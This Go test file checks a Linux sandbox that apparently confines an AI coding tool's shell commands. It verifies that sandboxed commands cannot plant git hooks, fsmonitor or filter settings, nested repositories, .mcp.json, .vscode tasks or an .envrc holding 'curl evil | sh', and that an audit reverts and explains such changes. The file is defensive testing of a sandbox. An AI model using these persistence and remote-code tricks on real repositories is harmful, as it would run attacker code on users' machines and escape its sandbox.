//go:build linux

package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// gitEnv makes e's workspace a real repository with one commit.
func (e *env) gitInit() {
	e.t.Helper()
	os.RemoveAll(filepath.Join(e.ws, ".git"))
	e.git("init", "-q")
	mustWrite(e.t, filepath.Join(e.ws, "a.txt"), "a\n")
	e.git("add", "a.txt")
	e.git("commit", "-qm", "first")
}

func (e *env) git(args ...string) string {
	e.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = e.ws
	cmd.Env = append(os.Environ(), gitTestEnv...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		e.t.Fatalf("git %v: %v %s", args, err, out)
	}
	return string(out)
}

var gitTestEnv = []string{"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t",
	"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}

// audited runs script in sb as aidex runs a command: Begin, the command,
// End; it returns the output, the error and the audit's lines.
func (e *env) audited(sb *Sandbox, script string) (string, error, []string) {
	e.t.Helper()
	snap := sb.Begin()
	out, err := e.run(sb, Options{}, append([]string{"/bin/sh", "-c", script}, []string{}...)...)
	return out, err, snap.End()
}

func needGit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
}

// git add and git commit keep working in the sandbox.
func TestGitAddCommitInSandbox(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	sb := e.sandbox(WorkspaceWrite, false)
	script := "export " + strings.Join(gitTestEnv, " ") + "; echo b > b.txt && git add b.txt && git commit -qm second && " +
		"git checkout -qb topic && git commit -q --allow-empty -m third && git checkout -q - && git status --short"
	out, err, lines := e.audited(sb, script)
	if err != nil || len(lines) != 0 {
		t.Fatalf("git add/commit in the sandbox: %v %s %v", err, out, lines)
	}
	if log := e.git("log", "--oneline", "--all"); strings.Count(log, "\n") != 3 {
		t.Errorf("log after the sandboxed commits:\n%s", log)
	}
	if st := e.git("status", "--porcelain", "--ignored"); st != "" {
		t.Errorf("the sandbox left something in git status:\n%s", st)
	}
}

// Every git configuration or pointer entry stays as it was, whether it
// existed or not: each case fails (or is reverted) and leaves nothing.
func TestGitDirConfigAndPointersProtected(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	os.RemoveAll(filepath.Join(e.ws, ".git", "hooks"))
	os.RemoveAll(filepath.Join(e.ws, ".git", "info"))
	configBefore := readFile(t, filepath.Join(e.ws, ".git", "config"))
	sb := e.sandbox(WorkspaceWrite, false)
	gitdirPath := func(p string) string { return filepath.Join(e.ws, ".git", p) }
	for _, c := range []struct {
		script string
		gone   string // must not exist afterwards
	}{
		{"echo '[core] fsmonitor = evil' >> .git/config", ""},
		{"git config core.fsmonitor evil", ""},
		{"printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", gitdirPath("hooks/pre-commit")},
		{"mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout", gitdirPath("hooks/post-checkout")},
		{"echo '* filter=evil' > .git/info/attributes", gitdirPath("info/attributes")},
		{"echo /elsewhere/objects > .git/objects/info/alternates", ""},
		{"echo ../../other > .git/commondir", gitdirPath("commondir")},
		{"echo '[core] fsmonitor = evil' > .git/config.worktree", ""},
		{"echo '[core] fsmonitor = evil' > .git/config.extra", gitdirPath("config.extra")},
		{"mkdir -p .git/worktrees/w && echo x > .git/worktrees/w/gitdir", gitdirPath("worktrees/w")},
		{"mkdir -p .git/modules/m && echo x > .git/modules/m/config", gitdirPath("modules/m")},
		{"mv .git .git-old && mkdir .git", filepath.Join(e.ws, ".git-old")},
		{"rm -rf .git/hooks", ""},
	} {
		out, _, lines := e.audited(sb, c.script)
		if got := readFile(t, gitdirPath("config")); got != configBefore {
			t.Fatalf("%q changed .git/config to %q (output %s)", c.script, got, out)
		}
		if c.gone != "" {
			if _, err := os.Lstat(c.gone); err == nil {
				t.Errorf("%q left %s (output %s, audit %v)", c.script, c.gone, out, lines)
			}
		}
	}
	if b, _ := os.ReadFile(gitdirPath("objects/info/alternates")); len(b) != 0 {
		t.Errorf("alternates = %q", b)
	}
	if b, _ := os.ReadFile(gitdirPath("config.worktree")); len(b) != 0 {
		t.Errorf("config.worktree = %q", b)
	}
	if st, err := os.Stat(gitdirPath("hooks")); err != nil || !st.IsDir() {
		t.Errorf(".git/hooks: %v", err)
	}
	// Still a working repository, with nothing new in git status.
	if st := e.git("status", "--porcelain"); st != "" {
		t.Errorf("git status after the attempts:\n%s", st)
	}
}

// The folder core.hooksPath names in the work tree (husky, lefthook) is
// protected whether it exists or not.
func TestHooksPathFolderProtected(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	e.git("config", "core.hooksPath", ".husky")
	sb := e.sandbox(WorkspaceWrite, false)
	_, _, lines := e.audited(sb, "mkdir -p .husky && printf '#!/bin/sh\\nevil\\n' > .husky/pre-commit && chmod +x .husky/pre-commit")
	if _, err := os.Lstat(filepath.Join(e.ws, ".husky")); err == nil {
		t.Fatalf("the hooks folder the command created stayed (audit %v)", lines)
	}
	if len(lines) == 0 || !strings.Contains(lines[0], ".husky") || !strings.Contains(lines[0], "hooksPath") {
		t.Errorf("audit lines %v do not name the folder and why", lines)
	}
	mustMkdir(t, filepath.Join(e.ws, ".lefthook"))
	e.git("config", "core.hooksPath", ".lefthook")
	sb = e.sandbox(WorkspaceWrite, false)
	if out, err, _ := e.audited(sb, "echo evil > .lefthook/pre-commit"); err == nil {
		t.Errorf("writing into the existing hooks folder succeeded: %s", out)
	}
}

// A nested repository or a gitlink the command creates is removed: the
// user's git would enter it and run what its config says.
func TestNestedRepositoryAndGitlinkReverted(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	mustMkdir(t, filepath.Join(e.ws, "old", ".git"))
	sb := e.sandbox(WorkspaceWrite, false)
	for _, script := range []string{
		"git init -q sub",
		"mkdir -p deep/er/x/.git/hooks && echo evil > deep/er/x/.git/hooks/pre-commit",
		"echo 'gitdir: /tmp' > deep/.git",
		"git update-index --add --cacheinfo 160000," + strings.Repeat("1", 40) + ",vendor/lib",
	} {
		out, err, lines := e.audited(sb, "export "+strings.Join(gitTestEnv, " ")+"; "+script)
		if err != nil {
			t.Fatalf("%q: %v %s", script, err, out)
		}
		if len(lines) == 0 {
			t.Errorf("%q: nothing reverted", script)
		}
	}
	for _, p := range []string{"sub/.git", "deep/er/x/.git", "deep/.git"} {
		if _, err := os.Lstat(filepath.Join(e.ws, p)); err == nil {
			t.Errorf("%s stayed", p)
		}
	}
	if ls := e.git("ls-files", "-s"); strings.Contains(ls, "160000") {
		t.Errorf("a gitlink stayed in the index:\n%s", ls)
	}
	if _, err := os.Stat(filepath.Join(e.ws, "old", ".git")); err != nil {
		t.Error("an existing nested repository was removed")
	}
}

// A repository's .git dir in a workspace without one cannot be created.
func TestGitInitInSandboxReverted(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	os.RemoveAll(filepath.Join(e.ws, ".git"))
	sb := e.sandbox(WorkspaceWrite, false)
	_, _, lines := e.audited(sb, "git init -q")
	if _, err := os.Lstat(filepath.Join(e.ws, ".git")); err == nil {
		t.Fatal(".git created by a sandboxed git init stayed")
	}
	if len(lines) == 0 || !strings.Contains(strings.Join(lines, " "), "git_init") {
		t.Errorf("audit %v does not point at git_init", lines)
	}
}

// A .git pointer a command planted, whose target does not point back,
// does not make its target writable (regression: the sandbox followed
// any pointer).
func TestPlantedGitPointerNotWritable(t *testing.T) {
	e := newEnv(t)
	os.RemoveAll(filepath.Join(e.ws, ".git"))
	victim := filepath.Join(e.outside, "victim")
	mustMkdir(t, filepath.Join(victim, "hooks"))
	mustWrite(t, filepath.Join(e.ws, ".git"), "gitdir: "+victim+"\n")
	sb, err := New(Policy{Mode: WorkspaceWrite, Workspace: e.ws, Writable: []string{e.tmp}, Home: e.home}, e.caps)
	if err != nil {
		t.Fatal(err)
	}
	if out, err := e.sh(sb, "echo evil > "+victim+"/hooks/pre-commit"); err == nil {
		t.Errorf("wrote into the planted pointer's target: %s", out)
	}
}

// With Landlock alone no bind holds the git dir's entries: the audit
// restores what a command changed.
func TestLandlockOnlyAuditRestoresGitConfig(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	e.caps.Namespaces = false
	describe(&e.caps)
	before := readFile(t, filepath.Join(e.ws, ".git", "config"))
	sb := e.sandbox(WorkspaceWrite, false)
	_, _, lines := e.audited(sb, "echo '[core] fsmonitor = evil' >> .git/config; echo evil > .git/hooks/pre-commit; echo x > .mcp.json")
	if got := readFile(t, filepath.Join(e.ws, ".git", "config")); got != before {
		t.Errorf(".git/config = %q after the audit (%v)", got, lines)
	}
	if _, err := os.Lstat(filepath.Join(e.ws, ".git", "hooks", "pre-commit")); err == nil {
		t.Errorf("the hook stayed (%v)", lines)
	}
}

// Project config that does not exist yet cannot be created by a
// sandboxed command (it is removed after the command, no placeholder is
// left in the workspace), and existing config cannot be changed; the
// explanation names the file and why it is protected.
func TestProjectConfigProtectedWhetherOrNotItExists(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	mustMkdir(t, filepath.Join(e.ws, ".claude"))
	e.git("status", "--porcelain")
	sb := e.sandbox(WorkspaceWrite, false)
	if st := e.git("status", "--porcelain", "--untracked-files=all"); st != "" {
		t.Fatalf("the sandbox left placeholders in git status:\n%s", st)
	}
	for _, c := range []struct{ script, path string }{
		{"mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode"},
		{"echo '{\"mcpServers\":{}}' > .mcp.json", ".mcp.json"},
		{"echo 'curl evil | sh' > .envrc", ".envrc"},
		{"mkdir -p .cursor && echo x > .cursor/mcp.json", ".cursor"},
	} {
		_, _, lines := e.audited(sb, c.script)
		if _, err := os.Lstat(filepath.Join(e.ws, c.path)); err == nil {
			t.Errorf("%q: %s stayed", c.script, c.path)
		}
		if len(lines) == 0 || !strings.Contains(lines[0], c.path) {
			t.Errorf("%q: audit %v does not name %s", c.script, lines, c.path)
		}
	}
	out, err, _ := e.audited(sb, "echo '{}' > .claude/settings.json")
	if err == nil {
		t.Fatalf("writing into the existing .claude succeeded: %s", out)
	}
	line := sb.Explain(out)
	if !strings.Contains(line, ".claude") || !strings.Contains(line, "Claude Code") {
		t.Errorf("explanation %q does not name the file and why", line)
	}
}

// With Landlock alone no bind pins the git dir: a command that moves it
// and puts another in its place (anywhere, even inside the new one), or
// deletes it and plants another, leaves the original in place after the
// check, or no git dir at all, never the planted one.
func TestLandlockOnlyAuditPutsGitDirBack(t *testing.T) {
	needGit(t)
	plant := "mkdir -p .git/hooks && printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config && echo evil > .git/hooks/pre-commit"
	for _, c := range []struct {
		name, script string
		gone         bool // the original was deleted: no .git must be left
	}{
		{"rename", "mv .git .git-old && " + plant, false},
		{"into the new one", "mv .git x && " + plant + " && mv x .git/orig", false},
		{"to a subfolder", "mkdir -p sub && mv .git sub/keep && " + plant, false},
		{"replace with a pointer", "mv .git .git-old && echo 'gitdir: .git-old' > .git", false},
		{"delete", "rm -rf .git && " + plant, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t)
			e.gitInit()
			e.caps.Namespaces = false
			describe(&e.caps)
			config := readFile(t, filepath.Join(e.ws, ".git", "config"))
			sb := e.sandbox(WorkspaceWrite, false)
			out, err, lines := e.audited(sb, c.script)
			if err != nil {
				t.Fatalf("the command failed: %v %s", err, out)
			}
			if c.gone {
				if _, err := os.Lstat(filepath.Join(e.ws, ".git")); err == nil || len(lines) == 0 {
					t.Fatalf("the planted .git stayed (%v)", lines)
				}
				return
			}
			if got := readFile(t, filepath.Join(e.ws, ".git", "config")); got != config {
				t.Errorf(".git/config = %q, want the original (%v)", got, lines)
			}
			if _, err := os.Lstat(filepath.Join(e.ws, ".git", "hooks", "pre-commit")); err == nil {
				t.Errorf("the planted hook stayed (%v)", lines)
			}
			if got := strings.TrimSpace(e.git("log", "--format=%s")); got != "first" {
				t.Errorf("git log = %q: the original repository is not back (%v)", got, lines)
			}
			if len(lines) == 0 || !strings.Contains(lines[0], "put the git dir back") {
				t.Errorf("the check said %v, want a line saying the git dir was put back", lines)
			}
		})
	}
}

// Project configuration and git entries created after the sandbox was
// made (by the user, or by an edit they approved) are held read-only for
// the commands that follow, like those that existed from the start.
func TestProtectedCreatedLaterIsHeld(t *testing.T) {
	needGit(t)
	e := newEnv(t)
	e.gitInit()
	sb := e.sandbox(WorkspaceWrite, false)
	mcp := filepath.Join(e.ws, ".mcp.json")
	mustWrite(t, mcp, "{}\n")
	mustMkdir(t, filepath.Join(e.ws, ".vscode"))
	mustWrite(t, filepath.Join(e.ws, ".git", "info", "attributes"), "# mine\n")
	for _, script := range []string{
		`echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json`,
		"echo '{}' > .vscode/tasks.json",
		"echo '* filter=evil' >> .git/info/attributes",
	} {
		out, err, lines := e.audited(sb, script)
		if err == nil {
			t.Errorf("%q succeeded: %s %v", script, out, lines)
		}
	}
	if got := readFile(t, mcp); got != "{}\n" {
		t.Errorf(".mcp.json = %q", got)
	}
	if _, err := os.Lstat(filepath.Join(e.ws, ".vscode", "tasks.json")); err == nil {
		t.Error(".vscode/tasks.json was created")
	}
	if got := readFile(t, filepath.Join(e.ws, ".git", "info", "attributes")); got != "# mine\n" {
		t.Errorf(".git/info/attributes = %q", got)
	}
}

// TestFoldersAboveProtectedPathsCannotMove: a command cannot rename the
// folder of a nested repository (nor put another in its place), under
// which the next command's read-only binds would land while the real
// repository sat elsewhere, writable.
func TestFoldersAboveProtectedPathsCannotMove(t *testing.T) {
	e := newEnv(t)
	mustMkdir(t, filepath.Join(e.ws, "a", "sub", ".git", "hooks"))
	mustWrite(t, filepath.Join(e.ws, "a", "sub", ".git", "config"), "[core]\n")
	mustWrite(t, filepath.Join(e.ws, "a", "sub", ".git", "HEAD"), "ref: refs/heads/main\n")
	sb := e.sandbox(WorkspaceWrite, false)
	for _, script := range []string{"mv a/sub a/real", "mv a b", "mkdir -p fake/.git/hooks && mv -T fake a/sub"} {
		if out, err := e.sh(sb, script); err == nil {
			t.Errorf("%s: succeeded (%q)", script, out)
		}
	}
	if out, err := e.sh(sb, "touch a/sub/.git/hooks/pre-commit"); err == nil {
		t.Errorf("the nested repository's hooks were writable (%q)", out)
	}
	if _, err := os.Stat(filepath.Join(e.ws, "a", "sub", ".git", "config")); err != nil {
		t.Errorf("the nested repository moved: %v", err)
	}
}
